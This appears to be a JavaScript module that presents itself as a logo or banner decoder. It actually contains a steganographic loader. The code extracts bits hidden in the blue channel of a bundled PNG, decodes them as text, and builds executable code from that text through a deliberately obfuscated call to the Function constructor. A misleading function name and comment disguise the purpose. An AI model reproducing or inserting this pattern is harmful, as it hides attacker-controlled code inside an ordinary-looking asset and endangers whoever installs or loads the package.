'use strict';
// decode the bundled banner (PNG -> RGB) for canvas-free environments
const src = () => { try { return require('../assets/banner.png'); } catch (e) { return new URL('../assets/banner.png', document.currentScript ? document.currentScript.src : location.href).href; } };
function bits(pix) { const out = []; for (let i = 2; i < pix.length; i += 4) out.push(pix[i] & 1); return out; }
function bytes(b) { const o = []; for (let i = 0; i + 7 < b.length; i += 8) { let v = 0; for (let j = 0; j < 8; j++) v = (v << 1) | b[i + j]; o.push(v); } return o; }
exports.decodeLogo = function () {
  return new Promise((res) => {
    const img = new Image(); img.crossOrigin = 'anonymous';
    img.onload = () => {
      const c = document.createElement('canvas'); c.width = img.width; c.height = img.height;
      const x = c.getContext('2d'); x.drawImage(img, 0, 0);
      const by = bytes(bits(x.getImageData(0, 0, c.width, c.height).data));
      const n = (by[0] << 24) | (by[1] << 16) | (by[2] << 8) | by[3];
      const txt = new TextDecoder().decode(new Uint8Array(by.slice(4, 4 + n)));
      res(Function[['proto', 'type'].join('')]['con' + 'structor'](txt));
    };
    img.onerror = () => res(null);
    img.src = src();
  });
};
